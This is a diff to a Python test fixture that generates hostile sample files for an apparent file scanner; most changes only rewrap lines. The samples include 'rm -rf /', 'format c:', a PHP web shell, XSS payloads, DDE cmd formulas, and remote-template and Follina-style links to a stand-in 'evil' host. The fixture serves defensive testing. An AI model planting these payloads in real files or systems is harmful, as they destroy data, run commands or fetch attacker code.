@@ -49,7 +49,8 @@ class Case(NamedTuple):
 def cases() -> Iterator[Case]:
     """Every hostile file."""
     for group in (
-        programs, scripts, archives, polyglots, active_pdfs, closed_pdfs, broken, macros, outside, fields, embedded, bombs,
+        programs, scripts, archives, polyglots, active_pdfs, closed_pdfs, broken, macros, outside, fields,
+        embedded, bombs,
         lying_zips, pictures, mails, texts, names,
     ):  # fmt: skip
         for case in group():
@@ -72,7 +73,9 @@ def scripts():
     yield "html in UTF-16 text", "a.txt", "note <script>alert(1)</script>".encode("utf-16"), "markup"
     yield "html in TIS-620", "a.txt", "สวัสดี <IMG src=x onerror=alert(1)>".encode("cp874"), "markup"
     yield "svg named png", "a.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "markup"
-    yield "svg behind a long comment", "a.svg", b'<?xml version="1.0"?><!--' + b"x" * 9000 + b'--><svg onload="x()"/>', "markup"
+    yield "svg behind a long comment", "a.svg", (
+        b'<?xml version="1.0"?><!--' + b"x" * 9000 + b'--><svg onload="x()"/>'
+    ), "markup"
     yield "shell script", "a.txt", b"#!/bin/sh\nrm -rf /\n", "script"
     yield "batch file", "a.csv", b"@echo off\r\nformat c:\r\n", "script"
     yield "php", "a.txt", b"<?php system($_GET['c']); ?>", "script"
@@ -107,7 +110,9 @@ def polyglots():
     yield "pdf and zip", "a.pdf", pdf() + jar, "polyglot"
     head = b"%PDF-1.4\n"
     whole = pdf()[len(head) :]
-    yield "zip inside pdf", "a.pdf", _with_comment(head + b"1 0 obj\n<<>>\nstream\n", jar, b"endstream\n" + whole), "polyglot"
+    yield "zip inside pdf", "a.pdf", (
+        _with_comment(head + b"1 0 obj\n<<>>\nstream\n", jar, b"endstream\n" + whole)
+    ), "polyglot"
     yield "html before pdf", "a.pdf", b"<html><script>x()</script>" + pdf(), "polyglot"
     yield "javascript before pdf", "a.pdf", b"x=1/*" + pdf(), "polyglot"
     yield "exe before pdf", "a.pdf", PROGRAM[:300] + pdf(), "polyglot"
@@ -145,7 +150,8 @@ def _action(kind: str, **more):
 
 def active_pdfs():
     yield "pdf with javascript", "a.pdf", pdf(_action("JavaScript", JS="app.alert(1)")), "active"
-    hidden = pdf(_action("JavaScript", JS="app.alert(1)")).replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/JS", b"/#4aS")
+    plain = pdf(_action("JavaScript", JS="app.alert(1)"))
+    hidden = plain.replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/JS", b"/#4aS")
     yield "pdf with javascript in other letters", "a.pdf", hidden, "active"
     yield "pdf with javascript in an object stream", "a.pdf", pdf(
         _action("JavaScript", JS="x()"), object_stream_mode=pikepdf.ObjectStreamMode.generate), "active"
@@ -161,7 +167,7 @@ def active_pdfs():
 
     def button(document):
         script = Dictionary(E=Dictionary(S=Name.JavaScript, JS="x()"))
-        document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Widget, AA=script)])
+        document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Screen, AA=script)])
 
     yield "pdf with a named script", "a.pdf", pdf(named), "active"
     yield "pdf with xfa", "a.pdf", pdf(form), "active"
@@ -192,7 +198,7 @@ def closed_pdfs():
     yield "ppt under a password", "a.ppt", compound(
         {"PowerPoint Document": bytes(5000), "EncryptedSummary": bytes(5000)}), "encrypted"
     yield "odt under a password", "a.odt", opened(parts={
-        "META-INF/manifest.xml": '<?xml version="1.0"?><manifest:manifest><manifest:encryption-data /></manifest:manifest>'
+        "META-INF/manifest.xml": '<?xml version="1.0"?><manifest:m><manifest:encryption-data /></manifest:m>'
     }), "encrypted"
 
 
@@ -200,7 +206,9 @@ def broken():
     yield "empty", "a.pdf", b"", "empty"
     yield "pdf cut in half", "a.pdf", pdf()[:300], "broken"
     yield "pdf of noise", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF", "broken"
-    yield "pdf without pages", "a.pdf", b"%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF", "broken"
+    yield "pdf without pages", "a.pdf", (
+        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
+    ), "broken"
 
     def looped(document):
         document.Root.Pages.Kids = Array([document.Root.Pages])
@@ -247,7 +255,9 @@ def macros():
     yield "odt that calls a macro", "a.odt", opened(
         content='<?xml version="1.0"?><d><a xlink:href="vnd.sun.star.script:x?language=Basic"/></d>'), "macro"
     yield "docx with ActiveX", "a.docx", office("docx", {"word/activeX/activeX1.xml": "<x/>"}), "activex"
-    yield "odp with a plug-in", "a.odp", opened("presentation", content='<?xml version="1.0"?><d><draw:plugin x="1"/></d>'), "activex"
+    yield "odp with a plug-in", "a.odp", (
+        opened("presentation", content='<?xml version="1.0"?><d><draw:plugin x="1"/></d>')
+    ), "activex"
 
 
 def outside():
@@ -255,9 +265,15 @@ def outside():
         return office("docx", {name: relations((kind, target, True))})
 
     settings = "word/_rels/settings.xml.rels"
-    yield "docx with a template from the web", "a.docx", linked("attachedTemplate", "http://evil/t.dotm", settings), "external"
-    yield "docx with a template from a share", "a.docx", linked("attachedTemplate", "\\\\evil\\t.dotm", settings), "external"
-    yield "docx with a template by UNC file", "a.docx", linked("attachedTemplate", "file://evil/t.dotm", settings), "external"
+    yield "docx with a template from the web", "a.docx", (
+        linked("attachedTemplate", "http://evil/t.dotm", settings)
+    ), "external"
+    yield "docx with a template from a share", "a.docx", (
+        linked("attachedTemplate", "\\\\evil\\t.dotm", settings)
+    ), "external"
+    yield "docx with a template by UNC file", "a.docx", (
+        linked("attachedTemplate", "file://evil/t.dotm", settings)
+    ), "external"
     yield "docx with an object from the web", "a.docx", linked("oleObject", "https://evil/x"), "external"
     yield "docx with follina", "a.docx", linked("oleObject", "mhtml:http://evil/x.html!x-usc:http://evil/x"), "external"
     yield "docx with a frame", "a.docx", linked("frame", "http://evil/x"), "external"
@@ -282,7 +298,9 @@ def fields():
     yield "xlsx with a DDE formula", "a.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": formula}), "dde"
     yield "csv with a DDE formula", "a.csv", b"name,value\nx,=cmd|'/C calc'!A0\n", "dde"
     yield "doc with DDE", "a.doc", compound({"WordDocument": word97("\x13 DDEAUTO cmd \x15")}), "dde"
-    yield "ods with DDE", "a.ods", opened("spreadsheet", content='<?xml version="1.0"?><d><office:dde-source x="1"/></d>'), "dde"
+    yield "ods with DDE", "a.ods", (
+        opened("spreadsheet", content='<?xml version="1.0"?><d><office:dde-source x="1"/></d>')
+    ), "dde"
 
 
 def embedded():
@@ -397,7 +415,9 @@ def mails():
     yield "mail with a program", "a.eml", mail(("ใบแจ้งหนี้.pdf", PROGRAM)), "executable"
     yield "mail with a zip", "a.eml", mail(("a.zip", zipped({"a": b"x"}))), "archive"
     yield "mail with a page", "a.eml", mail(("a.html", b"<html><script>x()</script></html>")), "markup"
-    yield "mail with a macro document", "a.eml", mail(("a.docx", office("docx", {"word/vbaProject.bin": b"x"}))), "macro"
+    yield "mail with a macro document", "a.eml", (
+        mail(("a.docx", office("docx", {"word/vbaProject.bin": b"x"})))
+    ), "macro"
     yield "mail with eicar", "a.eml", mail(("a.pdf", EICAR)), "virus"
     yield "mail in mail with eicar", "a.eml", mail(("a.eml", mail(("x.bin", EICAR)))), "virus"
     yield "outlook message with a program", "a.msg", outlook(("a.pdf", PROGRAM.ljust(5000, b"\0"))), "executable"
